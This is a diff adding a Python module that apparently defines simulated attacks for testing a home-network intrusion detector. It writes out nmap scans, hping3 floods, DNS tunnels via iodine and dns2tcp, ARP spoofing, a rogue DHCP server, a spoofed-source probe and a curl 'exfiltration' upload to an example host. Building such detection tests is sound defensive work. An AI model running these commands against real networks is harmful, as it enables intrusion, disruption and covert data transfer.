@@ -1,0 +1,212 @@
+"""All attacks: who does what with which tool, and as which kind of event it is to be named."""
+
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Final
+
+from lab.home import DEVICES, SITES
+from lab.tools import PYTHON
+
+FOLDER: Final = Path(__file__).resolve().parent
+#: Addresses of the lab's internet on which only attackers have servers.
+HERD: Final = "203.0.113.97"
+IODINE: Final = "203.0.113.98"
+DNS2TCP: Final = "203.0.113.99"
+SERVER_ADDRESSES: Final = (HERD, IODINE, DNS2TCP)
+#: Inside the tunnel.
+TUNNEL: Final = "10.99.0.1"
+
+_WEB: Final = SITES["news.example"].ipv4
+_GATEWAY: Final = {"iot": "192.168.20.1", "main": "192.168.10.1"}
+_PLUG, _CAMERA, _VACUUM = (DEVICES[name] for name in ("plug", "camera", "vacuum"))
+_TV, _LAPTOP, _PHONE = (DEVICES[name] for name in ("tv", "laptop", "phone"))
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """One attack; all command lines are as the lab's tools want them, without a shell."""
+
+    device: str
+    """Who does it."""
+    kind: str
+    """The event that it is to be named as."""
+    argv: Sequence[str]
+    """What runs on the device; a shell's line where several tools work together."""
+    seconds: float
+    """How long it takes at most."""
+    server: Sequence[str] = ()
+    """What must run on the lab's internet meanwhile."""
+    victim: tuple[str, Sequence[str]] | None = None
+    """Another device, and what it does a little later."""
+    subject: str = ""
+    """What the event's subject must contain."""
+
+
+def _words(line: str) -> tuple[str, ...]:
+    return tuple(line.split())
+
+
+def _shell(line: str) -> tuple[str, ...]:
+    return ("/bin/sh", "-c", line)
+
+
+def _client(what: str, port: int, seconds: float = 0.0, address: str = HERD) -> tuple[str, ...]:
+    return (PYTHON, "-I", str(FOLDER / "clients.py"), what, address, str(port), str(seconds))
+
+
+#: A web, telnet, IRC server and more: `{certificate}` and `{key}` are the lab's.
+_HERD: Final = (PYTHON, "-I", str(FOLDER / "servers.py"), HERD, "{certificate}", "{key}")
+_IODINED: Final = _words(f"iodined -f -c -P lab -l {IODINE} -d dnsi {TUNNEL} t.iodine.example")
+_DNS2TCPD: Final = _words("dns2tcpd -F -d 1 -f {folder}/dns2tcpd.conf")
+_DNSMASQ: Final = (
+    "timeout 15 dnsmasq --no-daemon --conf-file=/dev/null --port=0 --interface=eth0"
+    " --bind-interfaces --user=root"
+)
+DNS2TCPD_CONF: Final = f"""\
+listen = {DNS2TCP}
+port = 53
+user = nobody
+chroot = /tmp
+domain = t.dns2tcp.example
+resources = web:{_WEB}:80
+"""
+_SLOW_PORTS: Final = "21,22,23,25,80,81,110,139,143,443,445,554,1883,3306,5000,8080,8443,9100"
+
+
+def _slow_scan(seconds: float) -> tuple[str, ...]:
+    """Return a scan that waits before each probe, as `-T1` does for 15 s."""
+    return _words(
+        f"nmap -n -Pn -sS --max-retries 0 --scan-delay {seconds:g}s -p {_SLOW_PORTS} {_TV.ipv4}"
+    )
+
+
+def _scan(arguments: str, address: str) -> tuple[str, ...]:
+    return _words(f"nmap -n -Pn {arguments} {address}")
+
+
+def _flood(arguments: str) -> tuple[str, ...]:
+    """Return a flood that ends after five seconds."""
+    return _words(f"hping3 --quiet {arguments} -i u50 -c 100000 {HERD}")
+
+
+ATTACKS: Final[Mapping[str, Attack]] = {
+    # Scans
+    "scan-connect": Attack(
+        "camera", "port_scan", _scan("-sT -p 1-300", _VACUUM.ipv4), 20, subject=_VACUUM.ipv4
+    ),
+    "scan-syn": Attack("plug", "port_scan", _scan("-sS -p 1-300", _WEB), 20, subject=_WEB),
+    "scan-udp": Attack(
+        "vacuum",
+        "port_scan",
+        _scan("-sU --max-retries 1 --min-rate 50 -p 1-200", _PLUG.ipv4),
+        30,
+        subject=_PLUG.ipv4,
+    ),
+    "scan-slow": Attack("phone", "port_scan", _slow_scan(15), 300, subject=_TV.ipv4),
+    "scan-unhurried": Attack("phone", "port_scan", _slow_scan(3), 75, subject=_TV.ipv4),
+    "scan-ipv6": Attack(
+        "laptop", "port_scan", _scan("-6 -sS -p 1-300", _PHONE.ipv6), 20, subject=_PHONE.ipv6
+    ),
+    "sweep": Attack("tv", "address_scan", _words("nmap -n -sn 192.168.20.0/24"), 40),
+    "sweep-own-segment": Attack(
+        "camera", "address_scan", _words("nmap -n -sn 192.168.20.0/24"), 40
+    ),
+    "sweep-telnet": Attack(
+        "phone", "address_scan", _scan("-sS -p 23 --max-retries 0", "203.0.113.128/25"), 40
+    ),
+    "telnet-bot": Attack("vacuum", "address_scan", _client("mirai", 23, 15), 20, _HERD),
+    # Floods, bounded in count
+    "flood-syn": Attack("camera", "flood", _flood("-S -p 80"), 30, _HERD),
+    "flood-udp": Attack("plug", "flood", _flood("--udp -p 9 -d 64"), 30),
+    "flood-icmp": Attack("vacuum", "flood", _flood("--icmp"), 30),
+    # Tunnels
+    "iodine": Attack(
+        "laptop",
+        "dns_tunnel",
+        _shell(
+            f"iodine -f -r -P lab -d dnsc {IODINE} t.iodine.example & iodine=$!;"
+            f" sleep 6; ping -q -c 150 -i 0.1 -s 600 {TUNNEL}; kill $iodine; wait"
+        ),
+        30,
+        _IODINED,
+        subject="iodine.example",
+    ),
+    "dns2tcp": Attack(
+        "phone",
+        "dns_tunnel",
+        _shell(
+            f"dns2tcpc -z t.dns2tcp.example -r web -l 2222 {DNS2TCP} & client=$!; sleep 1;"
+            " curl -sS -m 20 -o /dev/null http://127.0.0.1:2222/bytes/60000; kill $client; wait"
+        ),
+        30,
+        _DNS2TCPD,
+        subject="dns2tcp.example",
+    ),
+    # Protocols
+    "stratum": Attack(
+        "plug",
+        "forbidden_protocol",
+        _client("stratum", 3333, address=SITES["pool.mining.example"].ipv4),
+        8,
+        subject="stratum",
+    ),
+    **{
+        name: Attack(device, "forbidden_protocol", _client(name, port), 15, _HERD, subject=subject)
+        for name, device, port, subject in (
+            ("monero", "tv", 3333, "stratum"),
+            ("ethereum", "camera", 8443, "stratum"),
+            ("irc", "vacuum", 6667, "irc"),
+            ("tor", "laptop", 9001, "tor"),
+            ("socks", "phone", 1080, "socks"),
+            ("bittorrent", "tv", 6881, "bittorrent"),
+            ("smb", "laptop", 445, "smb"),
+            ("telnet", "camera", 23, "telnet"),
+        )
+    },
+    # On the own network
+    "arpspoof": Attack(
+        "plug",
+        "address_conflict",
+        _words(f"timeout 12 arpspoof -i eth0 -t {_CAMERA.ipv4} {_GATEWAY['iot']}"),
+        20,
+    ),
+    "second-dhcp": Attack(
+        "vacuum",
+        "rogue_dhcp",
+        _words(
+            f"{_DNSMASQ} --dhcp-leasefile={{folder}}/leases --dhcp-authoritative"
+            " --dhcp-range=192.168.20.100,192.168.20.120,1h"
+        ),
+        20,
+        victim=("plug", _words("udhcpc -f -n -q -t 5 -T 2 -i eth0 -s /bin/true")),
+    ),
+    "second-router": Attack(
+        "tv",
+        "rogue_dhcp",
+        _words(
+            f"{_DNSMASQ} --dhcp-leasefile={{folder}}/leases6 --enable-ra --ra-param=eth0,high,4"
+            " --dhcp-range=2001:db8:10::,ra-only"
+        ),
+        20,
+    ),
+    # Habits
+    "exfiltration": Attack(
+        "plug",
+        "volume_anomaly",
+        _shell(
+            "head -c 200000000 /dev/zero | curl -sS -m 60 --cacert {certificate} -X POST -T -"
+            f" --resolve shop.example:443:{_WEB} https://shop.example/upload"
+        ),
+        60,
+    ),
+    "beacon": Attack("vacuum", "beacon", _client("beacon", 80, 150), 160, _HERD, subject=HERD),
+    "burst": Attack("tv", "connection_burst", _client("burst", 80, 20), 25, _HERD),
+    "spoofed-source": Attack(
+        "camera",
+        "segment_crossing",
+        _words(f"hping3 --quiet -S -p 80 -a 172.16.5.5 -i u100000 -c 20 {HERD}"),
+        10,
+        _HERD,
+    ),
+}
